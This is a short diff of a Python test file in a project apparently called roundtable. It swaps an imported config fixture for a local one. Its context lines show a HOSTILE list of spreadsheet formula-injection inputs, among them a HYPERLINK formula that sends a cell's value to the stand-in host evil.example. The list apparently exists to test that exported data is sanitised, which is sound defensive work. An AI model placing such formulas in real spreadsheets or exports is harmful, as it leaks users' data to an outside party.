@@ -12,8 +12,8 @@ from pathlib import Path
 import pytest
 
 from roundtable.store.store import Store
-from tests.cli.test_between_meetings_cli import config, run  # noqa: F401  (fixture)
-from tests.unit.between_data import fill
+from tests.cli.test_between_meetings_cli import run
+from tests.unit.between_data import SHIPPED, fill
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
@@ -23,6 +23,11 @@ HOSTILE = [
     "\t=1+1",
     "\r\n=1+1",
 ]
+
+
+@pytest.fixture
+def config() -> Path:
+    return SHIPPED
 
 
 @pytest.fixture
